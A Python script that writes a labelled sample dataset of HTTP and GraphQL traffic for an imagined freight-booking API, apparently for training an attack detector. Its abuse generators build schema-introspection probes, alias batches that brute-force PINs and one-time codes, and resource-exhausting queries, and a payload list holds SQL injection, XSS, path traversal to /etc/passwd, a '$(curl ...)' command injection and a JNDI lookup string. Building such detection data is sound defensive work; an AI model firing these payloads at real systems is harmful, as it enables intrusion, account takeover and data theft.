"""Writes the sample data set: labelled traffic of an imagined freight-booking application.

    python notebooks/tools/make_sample.py

Its API is GraphQL, which the base model's public data do not know: probing the schema, batches of
aliases that guess PINs, queries nested to exhaust the server, overloaded directives and circular
fragments look to it like any other JSON. The benign side uses GraphQL all day, `__typename`
included, so a model has to learn the difference and not the language. Some ordinary attacks are in
it as well. Deterministic.
"""

from __future__ import annotations

import csv
import json
import random
from pathlib import Path
from urllib.parse import quote, quote_plus

SEED = 20
BENIGN, ABUSE, ORDINARY = 1330, 520, 150
OUT = Path(__file__).resolve().parents[1] / "sample" / "traffic.csv"

_TYPES = [
    "shipment",
    "booking",
    "carrier",
    "customer",
    "quote",
    "invoice",
    "container",
    "vessel",
    "port",
    "route",
    "document",
    "driver",
    "depot",
    "pallet",
    "tariff",
    "claim",
]
_FIELDS = [
    "id",
    "reference",
    "status",
    "weightKg",
    "eta",
    "origin",
    "destination",
    "createdAt",
    "updatedAt",
    "price",
    "currency",
    "name",
    "email",
    "phone",
    "city",
    "country",
    "notes",
    "priority",
    "sealNumber",
    "temperature",
    "volume",
]
_NAMES = [
    "Lena Bakker",
    "Tom O'Shea",
    "Aïcha Benali",
    "J. van Dijk",
    "Mei Lin",
    "Pedro Núñez",
    "Kate D'Arcy",
]
_PLACES = [
    "Port of Rotterdam",
    "Le Havre (FR)",
    "St. John's",
    "Gdańsk",
    "Valparaíso",
    "Port-au-Prince",
    "Felixstowe, UK",
]
_NOTES = """Please call before delivery & don't leave it at the gate.
2 pallets (80x120), 340 kg; union rates apply
Customer's ref: PO-{n}/B - see attached
Select the cheaper tariff where possible; drop-off at dock 7
Temperature must stay < 8 °C > 2 °C
Driver: "gate closed", tried twice; new slot 10:30""".splitlines()
_AGENTS = [
    "Freightline/4.{d} (iPhone; iOS 17.{d}; Scale/3.00)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/12{d}.0.0.0 Safari/537.36",
    "okhttp/4.{d}.0",
]
_ORDINARY = [
    "' OR '{w}'='{w}",
    "{n}' UNION SELECT email,phone FROM {t}s--",
    "<script>alert({n})</script>",
    '"><img src=x onerror=alert({d})>',
    "../../../../etc/passwd",
    "..%2f..%2f..%2fwindows%2fwin.ini",
    "; cat /etc/passwd",
    "$(curl http://{w}.test/x)",
    "${{jndi:ldap://{w}.test/a}}",
    "{n}; DROP TABLE {t}s;--",
]


class Traffic:
    """Makes requests of the application and of those who attack it."""

    def __init__(self, seed: int) -> None:
        self.random = random.Random(seed)

    # Words of the application.

    def word(self) -> str:
        return "".join(self.random.choices("abcdefghiklmnoprstuvw", k=self.random.randint(3, 8)))

    def type(self) -> str:
        return self.random.choice(_TYPES)

    def fields(self, low: int, high: int) -> list[str]:
        return self.random.sample(_FIELDS, self.random.randint(low, high))

    def number(self) -> int:
        return self.random.randint(1, 10 ** self.random.randint(1, 6))

    def fill(self, patterns: list[str]) -> str:
        choose = self.random
        return choose.choice(patterns).format(
            d=choose.randint(1, 9), n=self.number(), t=self.type(), w=self.word()
        )

    def value(self) -> str:
        return self.random.choice(
            [
                self.random.choice(_NAMES),
                self.random.choice(_PLACES),
                self.fill(_NOTES),
                f"{self.type()[:2].upper()}-{self.number()}",
                f"2025-0{self.random.randint(1, 9)}-1{self.random.randint(0, 9)}",
            ]
        )

    def layout(self, query: str) -> str:
        """One and the same query as people and tools write it: on one line or on several."""
        if self.random.random() < 0.5:
            return query
        return query.replace("{ ", "{\n  ").replace(" }", "\n}")

    # What the application sends.

    def selection(self, depth: int) -> str:
        inner = self.fields(2, 6)
        if self.random.random() < 0.4:
            inner.append("__typename")
        if depth:
            inner.append(f"{self.type()} {{ {self.selection(depth - 1)} }}")
        self.random.shuffle(inner)
        return " ".join(inner)

    def query(self) -> str:
        kind, name = self.type(), self.type().title()
        page = f"first: {self.random.choice([10, 20, 50])}"
        selection = self.selection(self.random.choice([0, 0, 1, 1, 2, 4]))
        return self.layout(
            self.random.choice(
                [
                    f"query Get{name}($id: ID!) {{ {kind}(id: $id) {{ {selection} }} }}",
                    f"query List{name}s {{ {kind}s({page}) {{ edges {{ node {{ {selection} }} }} "
                    "pageInfo { hasNextPage endCursor } } }",
                    f"{{ {kind}s({page}, status: OPEN) {{ {selection} }} }}",
                    f"mutation Update{name}($input: {name}Input!) {{ update{name}(input: $input) "
                    f"{{ {kind} {{ {selection} }} errors {{ field message }} }} }}",
                    f"query {name}Page($id: ID!) {{ {kind}(id: $id) {{ ...{name}Parts }} }} "
                    f"fragment {name}Parts on {name} {{ {selection} }}",
                    f"query Two($a: ID!, $b: ID!) {{ left: {kind}(id: $a) {{ {selection} }} "
                    f"right: {kind}(id: $b) {{ {selection} }} }}",
                    f"query {name}($full: Boolean!) {{ {kind}s {{ {selection} "
                    f"{self.type()} @include(if: $full) {{ id name }} }} }}",
                    f"query Dashboard {{ {self.totals(self.random.randint(3, 7))} }}",
                    "mutation SignIn($email: String!, $pin: String!) "
                    "{ login(email: $email, pin: $pin) { token expiresAt } }",
                ]
            )
        )

    def totals(self, count: int) -> str:
        """A few aliases of one call, as dashboards have them."""
        names = self.random.sample(
            ["open", "late", "today", "draft", "paid", "lost", "done"], count
        )
        kind = self.type()
        return " ".join(
            f"{name}: {kind}s(status: {name.upper()}) {{ totalCount }}" for name in names
        )

    def variables(self) -> dict[str, object]:
        names = self.random.sample(["id", "input", "filter", "note", "search", "after"], 2)
        return {name: self.value() for name in names}

    def benign(self) -> tuple[str, bool]:
        kind, choice = self.type(), self.random.random()
        if choice < 0.45:
            return self.graphql(self.query()), True
        if choice < 0.53:
            return f"/graphql?query={quote(self.query())}", True
        if choice < 0.63:
            return self.query(), False
        if choice < 0.78:
            query = f"{self.random.choice(_FIELDS)}={quote_plus(self.value())}&page={self.number()}"
            return f"/{kind}s/{self.number()}/{self.type()}?{query}", True
        if choice < 0.88:
            body = {name: self.value() for name in self.fields(2, 5)}
            return self.post(f"/api/{kind}s", json.dumps(body, ensure_ascii=False)), True
        return self.value(), False

    # What attackers send.

    def introspection(self) -> str:
        parts = ["name", "kind", "description", "fields { name type { name kind } }"]
        parts += ["inputFields { name }", "enumValues { name }", "possibleTypes { name }"]
        inner = " ".join(self.random.sample(parts, self.random.randint(1, 5)))
        alias = self.random.choice(["", "", f"{self.word()}: "])
        name = self.random.choice(
            ["", "query ", "query IntrospectionQuery ", f"query {self.word()} "]
        )
        root = self.random.choice(["queryType", "mutationType", "subscriptionType"])
        return name + self.random.choice(
            [
                f"{{ {alias}__schema {{ types {{ {inner} }} }} }}",
                f"{{ {alias}__schema {{ {root} {{ {inner} }} }} }}",
                f"{{ {alias}__schema {{ directives {{ name args {{ name }} }} }} }}",
                f'{{ {alias}__type(name: "{self.type().title()}") {{ {inner} }} }}',
                f"{{ {self.type()}s {{ id }} {alias}__schema {{ types {{ {inner} }} }} }}",
            ]
        )

    def alias_batch(self) -> str:
        prefix, count = self.word()[:4], self.random.randint(8, 40)
        first, field = self.number(), self.random.choice(["token", "ok", "user { id }"])
        target = self.random.choice(
            [
                'login(email: "{v}@example.com", pin: "{n:04d}")',
                'redeem(code: "{n:06d}")',
                'verify(phone: "+31{v}", otp: "{n:06d}")',
                "invoice(id: {n})",
            ]
        )
        victim = self.word()
        calls = " ".join(
            f"{prefix}{i}: {target.format(v=victim, n=first + i)} {{ {field} }}"
            for i in range(count)
        )
        return f"{self.random.choice(['mutation', 'query', 'mutation Batch'])} {{ {calls} }}"

    def deep_nesting(self) -> str:
        cycle = self.random.sample(_TYPES, self.random.randint(2, 3))
        query = self.random.choice(_FIELDS)
        for level in range(self.random.randint(9, 30)):
            name = cycle[level % len(cycle)] + self.random.choice(["", "s"])
            query = f"{name} {{ {query} }}"
        return f"{{ {query} }}"

    def directive_overload(self) -> str:
        name = self.random.choice(["skip(if: false)", "include(if: true)", self.word()])
        return f"query {{ {self.type()}s {{ id {f'@{name}' * self.random.randint(12, 60)} }} }}"

    def circular_fragments(self) -> str:
        a, b, kind = self.word().title(), self.word().title(), self.type().title()
        return (
            f"query {{ {kind.lower()}s {{ ...{a} }} }} fragment {a} on {kind} {{ ...{b} }} "
            f"fragment {b} on {kind} {{ {self.random.choice(_FIELDS)} ...{a} }}"
        )

    def field_flood(self) -> str:
        field = self.random.choice(_FIELDS)
        return f"{{ {self.type()}s {{ {' '.join([field] * self.random.randint(30, 150))} }} }}"

    def abuse(self) -> tuple[str, bool]:
        make = self.random.choices(
            [
                self.introspection,
                self.alias_batch,
                self.deep_nesting,
                self.directive_overload,
                self.circular_fragments,
                self.field_flood,
            ],
            weights=[5, 4, 3, 2, 2, 2],
        )[0]
        query, choice = self.layout(make()), self.random.random()
        if choice < 0.65:
            return self.graphql(query), True
        if choice < 0.85:
            return f"/graphql?query={quote(query)}", True
        return query, False

    def ordinary(self) -> tuple[str, bool]:
        attack, choice = self.fill(_ORDINARY), self.random.random()
        if choice < 0.4:
            return f"/{self.type()}s?{self.random.choice(_FIELDS)}={quote(attack)}", True
        if choice < 0.8:
            return self.graphql(self.query(), {"search": attack}), True
        return attack, False

    # How it travels.

    def graphql(self, query: str, variables: dict[str, object] | None = None) -> str:
        body: dict[str, object] = {"query": query}
        if self.random.random() < 0.8 or variables:
            body["variables"] = variables or self.variables()
        return self.post("/graphql", json.dumps(body, ensure_ascii=False))

    def post(self, path: str, body: str) -> str:
        return (
            f"POST {path} HTTP/1.1\nHost: api.freightline.example\n"
            f"User-Agent: {self.fill(_AGENTS)}\nContent-Type: application/json\n\n{body}"
        )


def rows() -> list[tuple[str, int, str]]:
    """`payload, label, is_url`, shuffled; no payload twice."""
    traffic = Traffic(SEED)
    made: dict[str, tuple[str, int, str]] = {}
    for make, label, wanted in (
        (traffic.benign, 0, BENIGN),
        (traffic.abuse, 1, ABUSE),
        (traffic.ordinary, 1, ORDINARY),
    ):
        until = len(made) + wanted
        while len(made) < until:
            payload, is_url = make()
            made.setdefault(payload, (payload, label, str(is_url).upper()))
    shuffled = list(made.values())
    traffic.random.shuffle(shuffled)
    return shuffled


def main() -> None:
    """Writes the file."""
    OUT.parent.mkdir(exist_ok=True)
    with OUT.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, lineterminator="\n")
        writer.writerow(["payload", "label", "is_url"])
        writer.writerows(rows())


if __name__ == "__main__":
    main()
